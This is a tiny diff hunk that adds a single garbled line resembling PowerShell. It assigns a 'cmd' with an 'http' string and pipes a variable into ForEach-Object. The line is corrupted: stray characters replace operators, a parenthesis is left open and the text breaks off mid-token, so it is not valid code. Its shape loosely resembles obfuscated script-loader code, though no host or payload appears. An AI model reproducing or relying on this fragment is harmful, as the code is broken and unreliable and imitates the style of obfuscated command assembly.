@@ -1,0 +1,1 @@
+$a =cmd 'http'%oin ($b | ForEach-Object ¢_ -be 
